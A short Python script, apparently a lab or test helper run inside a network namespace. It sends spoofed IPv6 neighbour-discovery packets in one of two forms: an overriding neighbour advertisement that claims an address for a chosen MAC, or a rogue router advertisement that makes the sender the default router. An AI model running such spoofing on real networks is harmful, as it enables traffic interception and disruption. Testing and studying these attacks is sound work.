"""Sends one spoofed neighbour discovery message from this namespace's eth0
to all nodes: `na TARGET MAC` (an unsolicited, overriding neighbour
advertisement claiming TARGET for MAC) or `ra PREFIX` (a router
advertisement of PREFIX/64 for SLAAC, with this node as default router)."""
import socket
import struct
import sys

kind = sys.argv[1]
ifindex = socket.if_nametoindex("eth0")
sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, ifindex)
if kind == "na":
    target = socket.inet_pton(socket.AF_INET6, sys.argv[2])
    mac = bytes.fromhex(sys.argv[3].replace(":", ""))
    # Override flag set, solicited clear; the kernel fills in the checksum.
    message = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target
    message += struct.pack("!BB", 2, 1) + mac
elif kind == "ra":
    prefix = socket.inet_pton(socket.AF_INET6, sys.argv[2])
    # Hop limit 64, no flags, router lifetime 1800 s.
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    # Prefix information: /64, on-link and autonomous.
    message += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix
else:
    sys.exit(f"unknown message {kind}")
for _ in range(3):
    sock.sendto(message, ("ff02::1", 0, 0, ifindex))
